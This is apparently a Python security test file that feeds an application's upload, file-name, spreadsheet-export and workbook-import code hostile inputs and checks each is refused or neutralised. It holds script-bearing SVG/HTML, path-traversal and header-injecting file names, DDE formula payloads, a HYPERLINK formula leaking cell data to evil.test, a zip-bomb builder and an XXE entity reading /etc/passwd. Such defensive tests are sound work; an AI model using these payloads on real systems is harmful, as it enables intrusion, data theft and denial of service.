"""Files that come in and go out: pictures, workbooks, lists, names."""

from __future__ import annotations

import io
import tempfile
import zipfile
from collections.abc import Mapping
from functools import partial
from pathlib import Path
from typing import Any

from engine.errors import Refused
from engine.services.files.file_names import named_for, safe_name
from engine.services.files.kinds import problems_of
from engine.services.imports.mapping import Layout
from engine.services.imports.readers import open_table
from engine.services.message_results.csv_text import table
from engine.services.spreadsheet_text import harmless
from tests.attacks.case import Case, gives, holds, refuses

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 20
HTML = b"<!doctype html><script>alert(1)</script>"
_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

_TAKEN_FOR: Mapping[str, tuple[str, bytes, str]] = {
    "a picture that is a script (SVG)": ("image/svg+xml", SVG, "CWE-79"),
    "an SVG that says it is a PNG": ("image/png", SVG, "CWE-434"),
    "a page that says it is a PNG": ("image/png", HTML, "CWE-434"),
    "a page that says it is plain text": ("text/plain", HTML, "CWE-434"),
    "a program": ("application/x-msdownload", b"MZ\x90\x00", "CWE-434"),
    "a picture with a page in it": ("image/png", PNG[:8] + HTML, "CWE-434"),
    "an archive that says it is a workbook": (_XLSX, b"PK\x05\x06" + b"\0" * 18, "CWE-434"),
    "nothing": ("image/png", b"", "CWE-20"),
}
_NAMES: Mapping[str, tuple[str, str]] = {
    "a way up": ("../../../etc/passwd", "CWE-22"),
    "a way up of Windows": ("..\\..\\windows\\win.ini", "CWE-22"),
    "an absolute path": ("/etc/shadow", "CWE-36"),
    "a NUL before the ending": ("letter.pdf\0.exe", "CWE-158"),
    "a line break": ("a\r\nContent-Type: text/html\r\n\r\n.pdf", "CWE-113"),
    "letters turned round": ("invoice\u202efdp.exe", "CWE-451"),
    "a device": ("CON", "CWE-67"),
    "only dots": ("...", "CWE-22"),
    "quotes": ('a"; filename="b.exe', "CWE-116"),
}
_FORMULAS: Mapping[str, str] = {
    "a link out": '=HYPERLINK("https://evil.test?"&A1)',
    "a program": "@SUM(1)*cmd|' /C calc'!A0",
    "a plus": "+1+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "behind a tab": "\t=1+1",
    "behind a line break": "\n=1+1",
    "behind blanks": "   =1+1",
    "wide letters": "＝1+1",
}


def _opened(name: str, content: bytes) -> Any:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_bytes(content)
        return next(open_table(path, Layout()).lines, None)


def _bomb() -> bytes:
    """Two thousand million bytes of nothing, as the archive says, in a few kilobytes."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/workbook.xml", b"0" * 3_000_000)
    raw = held.getvalue()
    small, large = (3_000_000).to_bytes(4, "little"), (2_000_000_000).to_bytes(4, "little")
    return raw.replace(small, large)


def _external_entity() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as package:
        package.writestr(
            "xl/workbook.xml",
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;</workbook>',
        )
        package.writestr("[Content_Types].xml", "<Types/>")
    return held.getvalue()


def _shown(name: str) -> bool:
    made = safe_name(name, "file")
    return bool(made) and not set(made) & set('/\\\0\r\n"\u202e') and made.strip(".") != ""


CASES = [
    *(
        Case(
            f"file: {name}",
            source,
            "not taken",
            holds(partial(problems_of, declared, content)),
        )
        for name, (declared, content, source) in _TAKEN_FOR.items()
    ),
    *(
        Case(f"file name: {name}", source, "a plain name is left", holds(partial(_shown, written)))
        for name, (written, source) in _NAMES.items()
    ),
    Case(
        "file name: two endings",
        "CWE-434",
        "refused where the last one is another kind",
        holds(lambda: named_for("letter.pdf.exe", "file", "application/pdf")[1]),
    ),
    *(
        Case(f"list: {name}", "CWE-1236", "shown as text", holds(partial(_quoted, formula)))
        for _quoted in (lambda formula: harmless(formula).startswith("'"),)
        for name, formula in _FORMULAS.items()
    ),
    Case(
        "list: figures with a formula for a name",
        "CWE-1236",
        "shown as text",
        holds(lambda: table([["=1+1"]]).startswith("'=1+1")),
    ),
    Case(
        "list: a number and a telephone number stay what they are",
        "CWE-1236",
        "no apostrophe",
        gives(lambda: [harmless("-12.50"), harmless("+65 8123 4567")], ["-12.50", "+65 8123 4567"]),
    ),
    Case(
        "workbook: it unpacks to two thousand megabytes",
        "CWE-409",
        "refused before it is unpacked",
        refuses(Refused)(lambda: _opened("bomb.xlsx", _bomb())),
    ),
    Case(
        "workbook: a file of the server as an entity",
        "CWE-611",
        "refused, nothing of the file is read",
        refuses(Refused)(lambda: _opened("entity.xlsx", _external_entity())),
    ),
    Case(
        "workbook: no archive at all",
        "CWE-20",
        "refused with advice",
        refuses(Refused)(lambda: _opened("letter.xlsx", b"hello")),
    ),
    Case(
        "list: one line of thirty megabytes",
        "CWE-400",
        "refused with advice",
        refuses(Refused)(lambda: _opened("line.csv", b"a,b\n" + b"x" * 30_000_000)),
    ),
]
